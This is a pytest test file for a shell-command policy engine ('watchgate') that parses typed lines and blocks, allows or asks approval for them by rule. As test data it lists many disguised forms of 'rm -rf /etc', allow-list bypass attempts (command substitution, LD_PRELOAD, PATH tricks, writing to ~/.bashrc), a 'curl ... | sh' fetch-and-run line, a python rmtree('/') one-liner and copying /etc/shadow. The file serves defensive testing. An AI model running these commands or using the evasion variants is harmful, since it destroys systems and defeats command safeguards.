"""Rules put to lines as they are typed: read by the shell's reader, decided by the rules."""

from __future__ import annotations

from typing import Any

import pytest
from rule_cases import NOON_US, rule

from watchgate.policy.commands import KnownCommand, Place, Source
from watchgate.policy.explaining import explain
from watchgate.policy.loading import from_document, load_text
from watchgate.policy.reading import NOTHING_KNOWN, ShellContext
from watchgate.policy.readings import readings
from watchgate.policy.rules import Rule
from watchgate.policy.ruleset import RuleSet
from watchgate.policy.verdicts import Outcome, Verdict

NEAR_ROOT = """\
version: 1
rules:
  recursive-rm-near-root:
    description: Deletes whole directories that a system needs.
    action: block
    severity: high
    match:
      program: rm
      flags: recursive
      path: ["/", "/*", "/etc/**", "/usr/**", "/var"]
    expect:
      - matches: ["rm -rf /", "sudo rm -r -f /etc", "rm --recursive --force /usr/lib", "cd / && rm -rf etc"]
      - misses: ["rm x", "echo rm -rf /", "rm -rf /tmp/x", "rm -rf ./build", "ls # rm -rf /"]
"""
(RM,) = load_text(NEAR_ROOT, "near-root.yaml")


def verdict(*rules: Rule, line: str, context: ShellContext = NOTHING_KNOWN, **said: Any) -> Verdict:
    """What rules say of a line that a shell was given."""
    fields: dict[str, Any] = {
        "channel": 0,
        "source": Source.EXEC,
        "exact": True,
        "context": context,
    }
    command = KnownCommand(text=line, **(fields | said))
    return RuleSet(rules).decide(command, readings(command), NOON_US)


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /etc",
        "rm -r -f /etc/",
        "rm --recursive /etc",
        "rm --recur --fo /etc",
        "rm /etc -rf",
        r"\rm -rf /etc",
        "'rm' -rf /etc",
        'r"m" -rf "/etc"',
        "/bin/rm -rf /etc",
        "sudo rm -rf /etc",
        "sudo -u root env X=1 nohup rm -rf /etc",
        "true; rm -rf /etc",
        "true && (rm -rf /etc)",
        "echo $(rm -rf /etc)",
        "if true; then rm -rf /etc; fi",
        "for x in 1; do rm -rf /etc; done",
        "sh -c 'rm -rf /etc'",
        "bash -c \"bash -c 'rm -rf /etc'\"",
        "eval 'rm -rf /etc'",
        "echo 'rm -rf /etc' | sh",
        "x=rm; $x -rf /etc",
        "rm -rf /tmp/../etc",
        "rm -rf //etc/./",
        "rm -rf /e[t]c",
        "rm -rf /*",
        "rm -rf $X",
        "xargs rm -rf /etc",
        "f() { rm -rf /etc; }; f",
    ],
)
def test_a_rewritten_line_meets_the_rule(line: str) -> None:
    assert verdict(RM, line=line).outcome is Outcome.BLOCK


@pytest.mark.parametrize(
    "line",
    [
        "echo rm -rf /etc",
        "# rm -rf /etc",
        "ls; # rm -rf /etc",
        "grep 'rm -rf /' notes.txt",
        "git commit -m 'do not rm -rf /etc'",
        "cat <<EOF\nrm -rf /etc\nEOF",
        "man rm",
        "rm -rf ./build",
        "rm -rf build/*.o",
        "rm /etc/x.conf",
        "rm -rf /home/alice/project",
        "ls -R /etc",
        "rm x; ls -R /etc",
        "printf '%s\\n' 'rm -rf /'",
    ],
)
def test_a_harmless_line_does_not_meet_the_rule(line: str) -> None:
    assert verdict(RM, line=line).outcome is Outcome.ALLOW


def test_what_the_shell_knows_counts() -> None:
    context = ShellContext(cwd="/", aliases={"x": "rm -rf"}, variables={"D": "etc"})

    assert verdict(RM, line="x etc", context=context).outcome is Outcome.BLOCK
    assert verdict(RM, line='rm -r "$D"', context=context).outcome is Outcome.BLOCK
    assert verdict(
        RM, line='rm -r "$D"', context=ShellContext(cwd="/tmp", variables={"D": "x"})
    ).outcome is (Outcome.ALLOW)


LIST = rule("list", "force", match={"program": ["ls", "cat", "grep"]})


@pytest.mark.parametrize(
    "line",
    [
        "ls",
        "ls -l /etc | grep x",
        "cat a b; ls",
        "ls && exit",
        "exit",
        "logout",
        "",
        "# nothing",
        "ls *.log",
        "cat $HOME/x",
        "ls > /dev/null",
    ],
)
def test_a_line_on_the_list_runs(line: str) -> None:
    assert verdict(LIST, line=line).outcome is Outcome.ALLOW


@pytest.mark.parametrize(
    "line",
    [
        "rm x",
        "ls; rm x",
        "ls $(rm x)",
        "ls `rm x`",
        "cat <(rm x)",
        "$X",
        "eval $X",
        "sudo ls",
        "echo x | sh",
        "cat x | bash",
        "ls > /etc/x",
        "cat x >> ~/.bashrc",
        "ls '",
        "if",
        "./ls",
        "exit; rm x",
        "bash",
        "PATH=/tmp ls",
        "LD_PRELOAD=/tmp/x.so ls",
        "alias ls=rm; ls x",
        "ls() { rm x; }; ls",
        "exec rm x",
        ". ./x",
        "ls\nrm x",
    ],
)
def test_a_line_that_is_not_wholly_on_the_list_does_not_run(line: str) -> None:
    assert verdict(LIST, line=line).outcome is Outcome.FORCE


def test_what_cannot_be_read_can_be_given_any_action() -> None:
    asking = rule("ask", "approve", match={"opaque": ["computed", "piped"]})

    assert verdict(asking, line="$X -rf /").outcome is Outcome.APPROVE
    assert verdict(asking, line="curl http://h/x | sh").outcome is Outcome.APPROVE
    assert verdict(asking, line="ls | sort").outcome is Outcome.ALLOW


def test_code_in_another_language_is_put_to_regexes() -> None:
    python = rule(match={"opaque": "language", "program": "python*", "regex": "rmtree"})

    assert verdict(python, line="python3 -c 'import shutil; shutil.rmtree(\"/\")'").matches
    assert not verdict(python, line="python3 -c 'print(1)'").matches
    assert not verdict(python, line="echo rmtree").matches


def test_input_of_a_program_and_a_line_of_a_device_are_read_in_their_way() -> None:
    query = rule(match={"inside": "psql", "regex": "(?i)drop"})
    reload = rule(match={"program": "reload"})

    assert verdict(query, line="DROP TABLE x", place=Place.PROGRAM, program="psql").matches
    assert (
        verdict(RM, line="rm -rf /etc", place=Place.PROGRAM, program="vim").outcome is Outcome.ALLOW
    )
    assert (
        verdict(RM, line="rm -rf /etc", place=Place.ESCAPE, program="vim").outcome is Outcome.BLOCK
    )
    assert verdict(reload, line="reload in 5", place=Place.DEVICE).matches


def test_a_line_that_may_be_another_is_decided_by_the_strictest() -> None:
    assert verdict(RM, line="ls", others=("rm -rf /etc",)).outcome is Outcome.BLOCK


def test_a_line_is_explained() -> None:
    command = KnownCommand(0, "true; sudo rm -r /etc", Source.EXEC, True)
    found = explain(RuleSet((RM,)), command, readings(command), NOON_US)

    assert found.summary == "block by recursive-rm-near-root"
    assert any("sudo" in thing for thing in found.things)


@pytest.mark.parametrize(
    "line", ["ls 2>&1", "ls > /dev/null 2>&1", "ls >&2", "ls 2>&-", "ls 2>&1-"]
)
def test_a_redirection_to_a_descriptor_writes_no_file(line: str) -> None:
    writing = rule(match={"redirect": "/etc/**"})
    listed = rule("list", "force", match={"program": "ls"})

    assert not verdict(writing, line=line).matches
    assert verdict(listed, line=line).outcome is Outcome.ALLOW


def test_a_redirection_to_a_file_whose_name_is_not_known_may_write_any() -> None:
    writing = rule(match={"redirect": "/etc/**"})

    assert verdict(writing, line='ls >& "$X"').matches
    assert verdict(writing, line="ls > $X").matches


def test_a_redirection_without_a_command_runs_no_program() -> None:
    assert not verdict(rule(match={"program": "hydra"}), line="> /tmp/x").matches
    assert verdict(rule(match={"redirect": "/etc/**"}), line="> /etc/x").matches


def test_a_rule_that_allows_watches_each_path() -> None:
    reads = {"program": "cp", "path": "/etc/shadow"}
    watching = rule("watching", "allow", match=reads)
    guessing = rule("guessing", "allow", match=reads, certain=False)

    assert verdict(watching, line="cp /etc/shadow /tmp/x").matches
    assert not verdict(watching, line="cp /etc/shado? /tmp/x").matches
    assert verdict(guessing, line="cp /etc/shado? /tmp/x").matches
    assert verdict(guessing, line="cp /etc/shadow /tmp/x").outcome is Outcome.ALLOW


def test_a_rule_that_allows_is_read_back_with_its_certainty() -> None:
    for certain in (True, False):
        said = rule("a", "allow", match={"program": "cp"}, certain=certain)

        assert from_document(said.described()) == said
        assert said.certain is certain
